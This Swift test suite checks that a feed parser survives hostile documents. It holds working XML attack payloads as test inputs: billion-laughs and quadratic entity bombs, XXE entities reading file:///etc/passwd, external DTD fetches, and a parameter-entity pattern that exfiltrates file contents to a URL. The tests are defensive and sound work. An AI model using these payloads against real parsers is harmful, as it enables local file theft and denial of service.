import Foundation
import Testing
import TestSupport

@testable import FeedParsing

#if canImport(Glibc)
    import Glibc
#elseif canImport(Darwin)
    import Darwin
#endif

/// Documents written to hurt the parser: each must end in a typed ``FeedParsingError`` or a
/// recovered ``Feed`` (with warnings), within a bounded time, with nothing loaded from outside.
/// Time bounds are generous: they hold for a debug build on a slow machine; the point is
/// "bounded", not "fast".
@Suite("HostileDocuments", .ownThread)
struct HostileDocumentTests {
    /// The outcome of one parse and how long it took.
    struct Outcome {
        let result: Result<Feed, FeedParsingError>
        let elapsed: Duration

        var feed: Feed? { try? result.get() }
        var error: FeedParsingError? {
            if case .failure(let error) = result { return error }
            return nil
        }
    }

    static func parse(_ bytes: [UInt8], options: ParserOptions = ParserOptions()) -> Outcome {
        let clock = ContinuousClock()
        let start = clock.now
        let result = Result { () throws(FeedParsingError) -> Feed in try FeedParser.parse(bytes, options: options) }
        return Outcome(result: result, elapsed: start.duration(to: clock.now))
    }

    static func parse(_ text: String, options: ParserOptions = ParserOptions()) -> Outcome {
        parse(Array(text.utf8), options: options)
    }

    /// Every piece of text a feed carries, joined: what must never hold leaked content.
    static func allText(_ feed: Feed) -> String {
        var parts = [feed.title, feed.link].compactMap { $0 } + feed.warnings
        for entry in feed.entries {
            parts += [entry.id, entry.link, entry.title, entry.summary, entry.content].compactMap { $0 }
            parts += entry.authors + entry.categories + entry.enclosures.map(\.url)
        }
        return parts.joined(separator: "\n")
    }

    /// An RSS 2.0 document with `count` items `<title>Item n</title><guid>n</guid>`.
    static func rss(items count: Int) -> String {
        let items = (1...count).map { "<item><title>Item \($0)</title><guid isPermaLink=\"false\">\($0)</guid></item>" }
        return "<rss version=\"2.0\"><channel><title>T</title>\(items.joined())</channel></rss>"
    }

    // MARK: - Entities and DTDs

    @Test("billion laughs (lol1…lol9) is refused as .entityExpansionLimit, or recovered without the expansion")
    func billionLaughs() {
        var document = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n <!ENTITY lol \"lol\">\n"
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            document += " <!ENTITY lol\(level) \"\(String(repeating: "&\(previous);", count: 10))\">\n"
        }
        document += "]>\n<rss version=\"2.0\"><channel><title>T</title><item><title>&lol9;</title><guid>a</guid></item></channel></rss>\n"

        let outcome = Self.parse(document)
        #expect(outcome.elapsed < .seconds(5))
        switch outcome.result {
        case .failure(let error):
            guard case .entityExpansionLimit = error else {
                Issue.record("expected .entityExpansionLimit, got \(error)")
                return
            }
        case .success(let feed):
            // 10^9 "lol"s must not have been built: whatever is left is small.
            #expect(Self.allText(feed).utf8.count < 10_000)
            #expect(!feed.warnings.isEmpty, "recovered, so warned")
        }
    }

    @Test("quadratic blowup (one 10 KB entity referenced 2,000 times) is refused or not expanded")
    func quadraticBlowup() {
        let document = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY a \"\(String(repeating: "A", count: 10_000))\">]>\n"
            + "<rss version=\"2.0\"><channel><title>T</title><item><title>x</title><description>"
            + String(repeating: "&a;", count: 2_000) + "</description></item></channel></rss>"
        let outcome = Self.parse(document)
        #expect(outcome.elapsed < .seconds(5))
        // Unbounded, this is 16 KB in and 20 MB out; LibXML2SAXParser counts what the
        // document's own entities expand to and refuses past max(1 MiB, 4× the document).
        switch outcome.result {
        case .failure(let error):
            guard case .entityExpansionLimit = error else {
                Issue.record("expected .entityExpansionLimit, got \(error)")
                return
            }
        case .success(let feed):
            #expect(Self.allText(feed).utf8.count <= 10 * document.utf8.count, "expanded beyond 10× the document")
        }
    
    }

    @Test("an external entity to file:///etc/passwd is never read")
    func externalEntityFile() {
        // Meaningful only where the file holds "root:" (it does on Linux and macOS).
        let passwd = (try? String(contentsOfFile: "/etc/passwd", encoding: .utf8)) ?? ""
        #expect(passwd.contains("root:"), "precondition: /etc/passwd has the text a leak would show")

        let document = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
            <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>T &xxe;</title>
            <item><title>A &xxe;</title><description>&xxe;</description><content:encoded>&xxe;</content:encoded>
            <guid isPermaLink="false">id-&xxe;</guid><category>&xxe;</category></item></channel></rss>
            """
        let outcome = Self.parse(document)
        #expect(outcome.elapsed < .seconds(5))
        switch outcome.result {
        case .success(let feed):
            #expect(!Self.allText(feed).contains("root:"))
            let entry = feed.entries.first
            #expect(entry?.title?.contains("root:") != true)
            #expect(entry?.summary?.contains("root:") != true)
            #expect(entry?.content?.contains("root:") != true)
        case .failure(let error):
            #expect(!error.description.contains("root:"))
        }
    }

    @Test("external entities, an external DTD and parameter entities over http are never fetched")
    func noNetwork() throws {
        // A listener on a free loopback port: any fetch by the parser would connect to it.
        let listener = try #require(LoopbackListener())
        let port = listener.port
        let documents = [
            // The brief's address: nothing listens on port 9 (discard).
            """
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "http://127.0.0.1:9/x"> ]>
            <rss version="2.0"><channel><title>T</title><item><title>A &xxe;</title><guid>a</guid></item></channel></rss>
            """,
            """
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "http://127.0.0.1:\(port)/entity"> ]>
            <rss version="2.0"><channel><title>T</title><item><title>A &xxe;</title><guid>a</guid></item></channel></rss>
            """,
            // External DTD: SYSTEM and PUBLIC, with an entity only that DTD could define.
            """
            <?xml version="1.0"?>
            <!DOCTYPE rss SYSTEM "http://127.0.0.1:\(port)/rss.dtd">
            <rss version="2.0"><channel><title>T</title><item><title>A &custom;</title><guid>a</guid></item></channel></rss>
            """,
            """
            <?xml version="1.0"?>
            <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://127.0.0.1:\(port)/rss-0.91.dtd">
            <rss version="0.91"><channel><title>T</title><item><title>A</title><link>http://example.com/a</link></item></channel></rss>
            """,
            // Parameter entities: a remote DTD fragment, and the out-of-band exfiltration pattern.
            """
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://127.0.0.1:\(port)/evil.dtd"> %remote; ]>
            <rss version="2.0"><channel><title>T</title><item><title>A</title><guid>a</guid></item></channel></rss>
            """,
            """
            <?xml version="1.0"?>
            <!DOCTYPE rss [
              <!ENTITY % file SYSTEM "file:///etc/passwd">
              <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:\(port)/?d=%file;'>">
              %wrap; %send;
            ]>
            <rss version="2.0"><channel><title>T</title><item><title>A</title><guid>a</guid></item></channel></rss>
            """,
        ]
        for (index, document) in documents.enumerated() {
            let outcome = Self.parse(document)
            #expect(outcome.elapsed < .seconds(5), "document \(index)")
            if let feed = outcome.feed {
                #expect(feed.entries.first?.title?.hasPrefix("A") == true, "document \(index): the entry survives")
                #expect(!Self.allText(feed).contains("root:"), "document \(index)")
            } else if let error = outcome.error {
                #expect(!error.description.contains("root:"), "document \(index)")
            }
            #expect(listener.connectionAttempts() == 0, "document \(index) made the parser connect to 127.0.0.1:\(port)")
        }
        // The detector works: a real connection is counted.
        #expect(listener.connectToSelf())
        #expect(listener.connectionAttempts() == 1)
    }

    @Test("an external DTD is not loaded: the feed parses, its entities stay undefined")
    func externalDTDNotLoaded() {
        let document = """
            <?xml version="1.0"?>
            <!DOCTYPE rss SYSTEM "http://127.0.0.1:9/rss.dtd">
            <rss version="2.0"><channel><title>T</title><item><title>A&custom;B</title><guid>a</guid></item></channel></rss>
            """
        let outcome = Self.parse(document)
        #expect(outcome.elapsed < .seconds(5))
        let feed = try? outcome.result.get()
        #expect(feed?.format == .rss20)
        #expect(feed?.entries.count == 1)
        // Either dropped or kept as written; never replaced by anything from the DTD.
        let title = feed?.entries.first?.title
        #expect(title == "AB" || title == "A&custom;B", "title \(title ?? "nil")")
    }

    // MARK: - Size and depth

    @Test("a well-formed document of 24 MB parses whole, without a warning (the push parser is fed in chunks)")
    func largeWellFormedDocument() throws {
        let item = "<item><title>t</title><link>http://e.example/ID</link><guid>gID</guid><description>"
            + String(repeating: "x", count: 2_600) + "</description></item>"
        let items = (0..<9_000).map { item.replacingOccurrences(of: "ID", with: String($0)) }.joined()
        let document = "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>big</title>" + items + "</channel></rss>"
        #expect(document.utf8.count > 24_000_000)
        let feed = try Self.parse(document).result.get()
        #expect(feed.entries.count == 9_000)
        #expect(feed.warnings.isEmpty, "\(feed.warnings)")
        #expect(feed.entries.last?.link == "http://e.example/8999")
    }

    @Test("10,000 nested elements are refused as .nestingTooDeep")
    func deepNesting() {
        let depth = 10_000
        let document = "<rss version=\"2.0\"><channel><title>T</title><item><title>x</title><description>"
            + String(repeating: "<div>", count: depth) + "x" + String(repeating: "</div>", count: depth)
            + "</description></item></channel></rss>"
        let outcome = Self.parse(document)
        #expect(outcome.elapsed < .seconds(5))
        guard case .failure(.nestingTooDeep) = outcome.result else {
            Issue.record("expected .nestingTooDeep, got \(outcome.result)")
            return
        }

        // Unknown elements nested under the channel: the same bound.
        let bare = "<rss version=\"2.0\"><channel>" + String(repeating: "<a>", count: depth)
            + String(repeating: "</a>", count: depth) + "</channel></rss>"
        let second = Self.parse(bare)
        #expect(second.elapsed < .seconds(5))
        guard case .failure(.nestingTooDeep) = second.result else {
            Issue.record("expected .nestingTooDeep for bare nesting, got \(second.result)")
            return
        }
    }

    @Test("10,000 nested JSON arrays are refused as .nestingTooDeep")
    func deepJSONNesting() {
        let document = #"{"version": "https://jsonfeed.org/version/1.1", "items": [], "x": "#
            + String(repeating: "[", count: 10_000) + String(repeating: "]", count: 10_000) + "}"
        let outcome = Self.parse(document)
        #expect(outcome.elapsed < .seconds(5))
        guard case .failure(.nestingTooDeep) = outcome.result else {
            Issue.record("expected .nestingTooDeep, got \(outcome.result)")
            return
        }
    }

    @Test("a 100 MB document is refused as .documentTooLarge with the default limits")
    func hundredMegabytes() {
        let size = 100 << 20
        // Built once, in place: one allocation of `size` bytes, never copied (the parser
        // takes the array by value, which shares the storage).
        var bytes = [UInt8](repeating: UInt8(ascii: " "), count: size)
        let head = Array("<rss version=\"2.0\"><channel><title>Big</title><item><title>".utf8)
        let tail = Array("</title></item></channel></rss>".utf8)
        bytes.withUnsafeMutableBufferPointer { buffer in
            for (offset, byte) in head.enumerated() { buffer[offset] = byte }
            for (offset, byte) in tail.enumerated() { buffer[size - tail.count + offset] = byte }
        }
        let outcome = Self.parse(bytes)
        #expect(outcome.elapsed < .seconds(5))
        #expect(outcome.error == .documentTooLarge(bytes: size, limit: ParserLimits().maxDocumentBytes))
        #expect(ParserLimits().maxDocumentBytes < size, "the default limit is below 100 MB")
    }

    @Test("a document at the size limit is parsed; one byte over it is refused")
    func sizeLimitBoundary() {
        let document = Array(Self.rss(items: 2).utf8)
        let exact = Self.parse(document, options: ParserOptions(limits: ParserLimits(maxDocumentBytes: document.count)))
        #expect(exact.feed?.entries.count == 2)
        let over = Self.parse(document, options: ParserOptions(limits: ParserLimits(maxDocumentBytes: document.count - 1)))
        #expect(over.error == .documentTooLarge(bytes: document.count, limit: document.count - 1))
    }

    // MARK: - Bytes

    @Test("invalid UTF-8 in a UTF-8 labelled feed is read as windows-1252")
    func invalidUTF8() throws {
        // 0xE9 é, 0x93/0x94 curly quotes, 0xEF ï, 0x80 €: windows-1252 bytes pasted into UTF-8,
        // next to a valid UTF-8 é (C3 A9) that must stay é.
        let bytes: [UInt8] = Array(#"<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Caf"#.utf8)
            + [0xE9, 0x20, 0x93] + Array("q".utf8) + [0x94] + Array("</title><item><title>na".utf8) + [0xEF]
            + Array("ve ".utf8) + [0x80] + Array(" caf".utf8) + [0xC3, 0xA9]
            + Array("</title><guid>a</guid></item></channel></rss>".utf8)
        let outcome = Self.parse(bytes)
        #expect(outcome.elapsed < .seconds(5))
        let feed = try outcome.result.get()
        #expect(feed.title == "Caf\u{E9} \u{201C}q\u{201D}")
        #expect(feed.entries.first?.title == "na\u{EF}ve \u{20AC} caf\u{E9}")
        #expect(!feed.warnings.isEmpty)
    }

    @Test("NUL bytes inside a feed: recovered or a typed error, never a crash", arguments: [
        "inText", "inTagName", "inGUID", "betweenElements", "afterRoot", "leading", "onlyNULs",
    ])
    func nulBytes(_ placement: String) {
        let rss = Array("<rss version=\"2.0\"><channel><title>T</title><item><title>AB</title><guid>xy</guid></item></channel></rss>".utf8)
        func inserting(_ nuls: Int, after marker: String) -> [UInt8] {
            let text = String(decoding: rss, as: UTF8.self)
            let range = text.range(of: marker)!
            return Array(text[..<range.upperBound].utf8) + [UInt8](repeating: 0, count: nuls) + Array(text[range.upperBound...].utf8)
        }
        let bytes: [UInt8]
        switch placement {
        case "inText": bytes = inserting(1, after: "<title>A")
        case "inTagName": bytes = inserting(1, after: "<chan")
        case "inGUID": bytes = inserting(2, after: "<guid>x")
        case "betweenElements": bytes = inserting(3, after: "</item>")
        case "afterRoot": bytes = rss + [0, 0, 0, 0]
        case "leading": bytes = [0, 0, 0] + rss  // 00 00 00 3C: UCS-4 big-endian by XML's own rule
        default: bytes = [UInt8](repeating: 0, count: 100)
        }
        let outcome = Self.parse(bytes)
        #expect(outcome.elapsed < .seconds(5))
        switch outcome.result {
        case .success(let feed):
            // NULs after the root end the input for libxml2 and lose nothing: no warning needed.
            if placement != "afterRoot" { #expect(!feed.warnings.isEmpty, "NULs were removed, so warned") }
            #expect(!Self.allText(feed).contains("\u{0}"), "no NUL reaches the output")
            #expect(feed.entries.count == 1)
        case .failure(let error):
            // Typed: any case is acceptable, but say which in the log.
            #expect(!error.description.isEmpty)
        }
        if placement == "inText" || placement == "inGUID" || placement == "betweenElements" || placement == "afterRoot" {
            #expect(outcome.feed?.entries.first?.title == "AB", "\(placement): NULs in text are dropped, the rest kept")
        }
        if placement == "onlyNULs" { #expect(outcome.error == .empty) }
    }

    @Test("an empty file is .empty")
    func emptyFile() {
        let outcome = Self.parse([UInt8]())
        #expect(outcome.error == .empty)
        #expect(outcome.elapsed < .seconds(5))
    }

    @Test("a white-space-only file (also after a byte order mark) is .empty")
    func whitespaceOnly() {
        for text in [" ", "\n", " \t\r\n \n", "\u{FEFF}  \n", String(repeating: " \n", count: 2_000)] {
            let outcome = Self.parse(text)
            #expect(outcome.error == .empty, "\(text.utf8.count) bytes: \(text.prefix(8).debugDescription)")
            #expect(outcome.elapsed < .seconds(5))
        }
    }

    @Test("a white-space-only file longer than 4 KiB is .empty")
    func longWhitespaceOnly() {
        let outcome = Self.parse(String(repeating: " ", count: 5_000))
        #expect(outcome.elapsed < .seconds(5))
                #expect(outcome.error == .empty)
    
    }

    @Test("a JSON Feed after more than 4 KiB of white space is still JSON")
    func jsonAfterLongWhitespace() {
        let document = String(repeating: "\n", count: 5_000) + #"{"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "1"}]}"#
        let outcome = Self.parse(document)
        #expect(outcome.elapsed < .seconds(5))
                #expect(outcome.feed?.format == .jsonFeed11)
        #expect(outcome.feed?.entries.first?.id == "1")
    
    }

    @Test("an HTML page is .notAFeed")
    func htmlPage() {
        let pages = [
            "<!DOCTYPE html><html><head><title>Hi</title></head><body><p>Not a feed</p></body></html>",
            """
            <!DOCTYPE html>
            <html lang="en"><head><meta charset="utf-8"><title>Hi</title><script>if (a < b && c) {}</script></head>
            <body><p>Not a feed<br></body></html>
            """,
            """
            <?xml version="1.0"?>
            <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
            <html xmlns="http://www.w3.org/1999/xhtml"><head><title>x &nbsp; &copy;</title></head><body><p>hi</p></body></html>
            """,
            "<html><body>no doctype</body></html>",
        ]
        for page in pages {
            let outcome = Self.parse(page)
            #expect(outcome.elapsed < .seconds(5))
            guard case .failure(.notAFeed(let message)) = outcome.result else {
                Issue.record("expected .notAFeed, got \(outcome.result) for \(page.prefix(40).debugDescription)")
                continue
            }
            #expect(message.contains("html"))
        }
    }

    @Test("an HTML5 page with a lower-case <!doctype html> is .notAFeed")
    func htmlPageLowercaseDoctype() throws {
        let page = "<!doctype html>\n<html><head><title>Hi</title></head><body><p>Not a feed</p></body></html>"
        let outcome = Self.parse(page)
        #expect(outcome.elapsed < .seconds(5))
                guard case .failure(.notAFeed) = outcome.result else {
            Issue.record("expected .notAFeed, got \(outcome.result)")
            return
        }
    
        // The repaired document is what shows the <html> root.
        let repaired = DocumentRepair.repairMarkup(Array(page.utf8))
        var builder = XMLFeedBuilder(documentURL: nil, limits: ParserLimits())
        _ = LibXML2SAXParser.parse(repaired.bytes, encoding: nil, into: &builder)
        #expect(builder.foreignRoot == "html")
    }

    // MARK: - Markup damage

    @Test("a stray & and the HTML entities &nbsp; and &eacute; in titles are recovered")
    func strayAmpersandAndHTMLEntities() throws {
        let document = """
            <rss version="2.0"><channel><title>AT&T</title>
            <item><title>AT&T&nbsp;caf&eacute;</title><guid>a</guid></item>
            <item><title>Fish & Chips &amp; more</title><guid>b</guid></item>
            </channel></rss>
            """
        let outcome = Self.parse(document)
        #expect(outcome.elapsed < .seconds(5))
        let feed = try outcome.result.get()
        #expect(feed.title == "AT&T")
        #expect(feed.entries.map(\.title) == ["AT&T\u{A0}caf\u{E9}", "Fish & Chips & more"])
        #expect(!feed.warnings.isEmpty)
    }

    @Test("HTML entities alone (&nbsp; &eacute; &copy;) expand to their characters")
    func htmlEntitiesAlone() throws {
        let feed = try Self.parse(
            "<rss version=\"2.0\"><channel><title>A&nbsp;B</title><item><title>caf&eacute; &copy; &hellip;</title></item></channel></rss>"
        ).result.get()
        #expect(feed.title == "A\u{A0}B")
        #expect(feed.entries.first?.title == "caf\u{E9} \u{A9} \u{2026}")
    }

    @Test("a truncated document keeps the entries before the cut")
    func truncatedDocument() throws {
        let full = Self.rss(items: 3)
        let cut = String(full[..<full.range(of: "<item><title>Item 3")!.upperBound].dropLast(2))  // "...<title>Ite"
        let outcome = Self.parse(cut)
        #expect(outcome.elapsed < .seconds(5))
        let feed = try outcome.result.get()
        #expect(feed.title == "T")
        // The entry cut in half is dropped: keyed on half its fields, it would be sent again
        // (under another key) once the whole document arrives.
        #expect(feed.entries.count == 2)
        #expect(feed.entries.prefix(2).map(\.title) == ["Item 1", "Item 2"])
        #expect(feed.entries.prefix(2).map(\.id) == ["1", "2"])
        #expect(!feed.warnings.isEmpty)

        // Cut inside a tag, and inside an attribute value.
        for cutAt in ["<item><ti", "<guid isPermaLink=\"fa"] {
            let ranges = full.ranges(of: cutAt)
            let text = String(full[..<ranges[2].upperBound])
            let damaged = Self.parse(text)
            #expect(damaged.elapsed < .seconds(5))
            let recovered = try damaged.result.get()
            #expect(recovered.entries.map(\.id) == ["1", "2"], "cut after \(cutAt.debugDescription)")
            #expect(!recovered.warnings.isEmpty)
        }
    }

    @Test("control characters are removed and the text around them kept")
    func controlCharacters() throws {
        var bytes = Array("<rss version=\"2.0\"><channel><title>T".utf8) + [0x01, 0x02]
        bytes += Array("</title><item><title>A".utf8) + [0x07] + Array("B".utf8) + [0x1B] + Array("C".utf8) + [0x0B, 0x0C]
        bytes += Array("</title><guid>a</guid><description>x&#1;y</description></item></channel></rss>".utf8)
        let outcome = Self.parse(bytes)
        #expect(outcome.elapsed < .seconds(5))
        let feed = try outcome.result.get()
        #expect(feed.title == "T")
        #expect(feed.entries.first?.title == "ABC")
        #expect(feed.entries.first?.summary == "xy")
        #expect(!feed.warnings.isEmpty)
        #expect(!Self.allText(feed).unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" && $0 != "\t" && $0 != "\r" })
    }

    @Test("a first pass stops at a forbidden character; the document's entries are all read")
    func firstPassStopsAtForbiddenCharacter() throws {
        // The pass the recovery starts with stops at the first start tag after the character.
        let items = (2...5).map { "<item><guid>\($0)</guid></item>" }.joined()
        let bytes = Array("<rss version=\"2.0\"><channel><title>T</title><item><guid>1</guid><title>A".utf8) + [0x02]
            + Array("B</title></item>\(items)</channel></rss>".utf8)
        var stopped = XMLFeedBuilder(documentURL: nil, limits: ParserLimits())
        let report = LibXML2SAXParser.parse(bytes, encoding: nil, into: &stopped, stopAtForbiddenCharacter: true)
        #expect(report.stoppedAtForbiddenCharacter)
        #expect(stopped.entries.count < 5)
        var whole = XMLFeedBuilder(documentURL: nil, limits: ParserLimits())
        #expect(!LibXML2SAXParser.parse(bytes, encoding: nil, into: &whole).stoppedAtForbiddenCharacter)
        #expect(whole.entries.count == 5)

        // Removing the character is enough: the stripped document's entries, with the notes of the first error.
        let feed = try Self.parse(bytes).result.get()
        #expect(feed.entries.map(\.id) == ["1", "2", "3", "4", "5"])
        #expect(feed.entries.first?.title == "AB")
        #expect(feed.warnings.contains { $0.contains("PCDATA invalid Char value 2") })

        // It is not (a stray end tag too): the whole-document pass is made after all, and the
        // markup repair then reads every entry.
        let damaged = Array("<rss version=\"2.0\"><channel><title>T</title><item><guid>1</guid><title>A".utf8) + [0x02]
            + Array("B</title></item><item><guid>2</guid></bad></item><item><guid>3</guid></item></channel></rss>".utf8)
        let recovered = try Self.parse(damaged).result.get()
        #expect(recovered.entries.map(\.id) == ["1", "2", "3"])
        #expect(recovered.entries.first?.title == "AB")
        #expect(recovered.warnings.contains("1 stray end tag(s) dropped"))
    }

    // MARK: - Limits

    @Test("maxEntries: 3 on a 10-item feed keeps the first 3, with a warning")
    func entryCap() throws {
        let limits = ParserLimits(maxEntries: 3)
        let feed = try Self.parse(Self.rss(items: 10), options: ParserOptions(limits: limits)).result.get()
        #expect(feed.entries.map(\.id) == ["1", "2", "3"])
        #expect(!feed.warnings.isEmpty)

        let items = (1...10).map { #"{"id": "\#($0)", "title": "Item \#($0)"}"# }.joined(separator: ",")
        let json = #"{"version": "https://jsonfeed.org/version/1.1", "items": [\#(items)]}"#
        let jsonFeed = try Self.parse(json, options: ParserOptions(limits: limits)).result.get()
        #expect(jsonFeed.entries.map(\.id) == ["1", "2", "3"])
        #expect(!jsonFeed.warnings.isEmpty)

        // At the cap exactly: nothing dropped, no warning.
        let exact = try Self.parse(Self.rss(items: 3), options: ParserOptions(limits: limits)).result.get()
        #expect(exact.entries.count == 3)
        #expect(exact.warnings.isEmpty)
    }

    @Test("an id longer than maxIdentifierBytes is dropped (id nil), with a warning")
    func overlongIdentifier() throws {
        let limits = ParserLimits(maxIdentifierBytes: 16)
        let long = String(repeating: "x", count: 17)
        let document = """
            <rss version="2.0"><channel><title>T</title>
            <item><title>long</title><guid isPermaLink="false">\(long)</guid></item>
            <item><title>short</title><guid isPermaLink="false">\(String(repeating: "y", count: 16))</guid></item>
            </channel></rss>
            """
        let feed = try Self.parse(document, options: ParserOptions(limits: limits)).result.get()
        #expect(feed.entries.count == 2)
        #expect(feed.entries[0].id == nil)
        #expect(feed.entries[0].identity.hasPrefix("title:"), "the key falls back to the next rule")
        #expect(feed.entries[1].id == String(repeating: "y", count: 16))
        #expect(!feed.warnings.isEmpty)

        let atom = """
            <feed xmlns="http://www.w3.org/2005/Atom"><title>T</title>
            <entry><title>long</title><id>urn:\(long)</id><link href="http://example.com/1"/></entry></feed>
            """
        let atomFeed = try Self.parse(atom, options: ParserOptions(limits: limits)).result.get()
        #expect(atomFeed.entries.first?.id == nil)
        #expect(atomFeed.entries.first?.link == "http://example.com/1")
        #expect(!atomFeed.warnings.isEmpty)

        let json = #"{"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "\#(long)", "title": "long"}]}"#
        let jsonFeed = try Self.parse(json, options: ParserOptions(limits: limits)).result.get()
        #expect(jsonFeed.entries.first?.id == nil)
        #expect(!jsonFeed.warnings.isEmpty)
    }
}

/// A TCP listener on a free port of 127.0.0.1 that never accepts on its own: a connection
/// attempt stays queued until ``connectionAttempts()`` takes it, so any fetch is counted.
private final class LoopbackListener {
    private let socketFD: Int32
    let port: UInt16

    init?() {
        #if os(Linux)
            let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        #else
            let fd = socket(AF_INET, SOCK_STREAM, 0)
        #endif
        guard fd >= 0 else { return nil }
        var address = sockaddr_in()
        #if !os(Linux)
            address.sin_len = UInt8(MemoryLayout<sockaddr_in>.size)
        #endif
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = 0
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { generic in
                bind(fd, generic, length) == 0 && listen(fd, 16) == 0 && getsockname(fd, generic, &length) == 0
            }
        }
        guard bound, fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK) == 0 else {
            close(fd)
            return nil
        }
        socketFD = fd
        port = UInt16(bigEndian: address.sin_port)
    }

    deinit { close(socketFD) }

    /// Connects to the listener once (to check that ``connectionAttempts()`` sees connections).
    func connectToSelf() -> Bool {
        #if os(Linux)
            let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        #else
            let fd = socket(AF_INET, SOCK_STREAM, 0)
        #endif
        guard fd >= 0 else { return false }
        defer { close(fd) }
        var address = sockaddr_in()
        #if !os(Linux)
            address.sin_len = UInt8(MemoryLayout<sockaddr_in>.size)
        #endif
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = port.bigEndian
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        let connected = withUnsafePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) == 0
            }
        }
        return connected
    }

    /// Connections made since the last call (accepted and closed here).
    func connectionAttempts() -> Int {
        var count = 0
        while true {
            let client = accept(socketFD, nil, nil)
            if client < 0 { return count }
            close(client)
            count += 1
        }
    }
}

extension HostileDocumentTests {
    @Test("HTML entities beyond ASCII are right in attribute values too")
    func htmlEntitiesInAttributes() throws {
        let document = """
            <rss version="2.0"><channel><title>T</title><item><title>caf&eacute;</title>
            <enclosure url="http://x/caf&eacute;.mp3" type="audio/mpeg"/><link>http://x/caf&eacute;</link></item></channel></rss>
            """
        let feed = try Self.parse(document).result.get()
        #expect(feed.entries.first?.title == "café")
        #expect(feed.entries.first?.enclosures.first?.url == "http://x/café.mp3")
        #expect(feed.entries.first?.link == "http://x/café")
    }

    @Test("an empty <link/> after a real one leaves the real one")
    func emptyLinkKeepsLink() throws {
        let document = "<rss version=\"2.0\"><channel><item><link>http://x/a</link><link/></item></channel></rss>"
        let feed = try Self.parse(document).result.get()
        #expect(feed.entries.first?.link == "http://x/a")
    }
}
